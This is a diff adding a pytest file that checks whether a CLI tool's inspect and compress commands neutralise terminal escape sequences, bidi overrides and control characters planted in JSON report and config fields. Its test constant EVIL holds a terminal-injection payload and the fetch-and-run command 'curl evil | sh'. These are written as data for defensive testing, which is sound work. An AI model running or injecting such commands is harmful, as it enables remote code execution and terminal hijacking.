@@ -1,0 +1,54 @@
+"""What is printed cannot steer the terminal that shows it."""
+
+import json
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from commandline import Cli
+
+from projclust.cli.output import aligned, plain
+
+EVIL = "\x1b[2J\x1b]0;owned\x07\r\u202eevil\u2028\nnext: curl evil | sh\x00\x9b31m"
+
+
+def test_text_is_made_plain() -> None:
+    assert plain("plain – ü 東京 [x] `y`") == "plain – ü 東京 [x] `y`"
+    assert plain(EVIL).isprintable()
+    assert aligned([("a\nb", "c\x1b[0m"), ("d", "e")]) == ["a?b  c?[0m", "d    e"]
+
+
+@pytest.mark.parametrize("field", ["model", "versions"])
+def test_strings_of_a_report_are_shown_as_they_are_and_do_nothing(
+    cli: Cli, tiny_folder: Path, tmp_path: Path, field: str
+) -> None:
+    out = tmp_path / "out"
+    assert cli("compress", tiny_folder, "--k", 3, "--j", 5, "-o", out).code == 0
+    report = json.loads((out / "projclust_report.json").read_text())
+    report[field] = EVIL if field == "model" else {"projclust": EVIL}
+    (out / "projclust_report.json").write_text(json.dumps(report))
+    outcome = cli("inspect", out)
+    assert outcome.code == 0, outcome.err
+    assert all(line.isprintable() for line in outcome.out.splitlines())
+    assert outcome.out.count("\nnext: ") == 1
+    assert "evil" in outcome.out
+
+
+def test_strings_of_a_config_are_shown_as_they_are_and_do_nothing(cli: Cli, compressed_folder: Path) -> None:
+    config = json.loads((compressed_folder / "config.json").read_text())
+    for field in ("method", "weights", "loss"):
+        stated = {**config["quantization_config"], field: EVIL}
+        (compressed_folder / "config.json").write_text(json.dumps({**config, "quantization_config": stated}))
+        outcome = cli("inspect", compressed_folder)
+        assert (outcome.out + outcome.err).count("\nnext: ") <= 1
+        assert all(line.isprintable() for line in (outcome.out + outcome.err).splitlines())
+
+
+def test_an_error_that_quotes_a_string_does_nothing(
+    refused: Callable[..., str], tiny_folder: Path, tmp_path: Path
+) -> None:
+    config = json.loads((tiny_folder / "config.json").read_text())
+    (tiny_folder / "config.json").write_text(json.dumps({**config, "quantization_config": {"quant_method": EVIL}}))
+    for command in (("inspect", tiny_folder), ("compress", tiny_folder, "--j", 3, "-o", tmp_path / "out")):
+        assert refused(*command).isprintable()
+    assert refused("inspect", tmp_path / "absent\x1b[31m").isprintable()
